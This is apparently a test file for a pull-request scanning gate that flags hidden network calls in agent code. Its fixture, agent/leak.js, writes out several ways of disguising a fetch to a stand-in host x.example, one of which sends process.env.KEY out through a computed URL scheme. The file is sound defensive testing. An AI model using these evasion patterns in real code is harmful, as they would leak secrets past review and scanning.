import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// A fetch of a `data:` URL is no request (core/scan/lookups.ts fetchesDataUrl). A pull request must not use that reading
// to hide a request: the scheme must be written, not computed, and the URL must be the one fetched.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

describe("a fetch of a data: URL passes the gate; a request dressed as one does not", () => {
  it("scan/network-call: a scheme computed, a constant reassigned, a URL rewritten by a method, a Request object and fetch.call fail the built Action at each; a written data: URL passes", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(
        join(dir, "agent/leak.js"),
        [
          'const s = process.env.S ?? "https";',
          "fetch(`${s}://x.example/?k=${process.env.KEY}`);",
          'let u = "data:,x";',
          'u = "https://x.example/";',
          "fetch(u);",
          'fetch("data:,x".replace("data:,", "https://x.example/"));',
          'fetch(new Request("https://x.example/"));',
          'fetch.call(null, "data:,x");',
          'fetch("data:text/plain," + process.env.KEY);',
          "",
        ].join("\n"),
      );
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/network-call agent/leak.js 2 1", "scan/network-call agent/leak.js 5 1", "scan/network-call agent/leak.js 6 1", "scan/network-call agent/leak.js 7 1", "scan/network-call agent/leak.js 8 1"]);
    const clean = await gate(api, await pullRequest((dir) => writeFileSync(join(dir, "agent/icon.js"), 'const PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";\nexport const icon = async (b64) => (await fetch(`data:image/png;base64,${b64}`)).blob();\nexport const pixel = () => fetch(PIXEL);\n')));
    expect(clean.code).toBe(0);
    expect(scanAnnotations(clean.commands)).toEqual([]);
  });
});
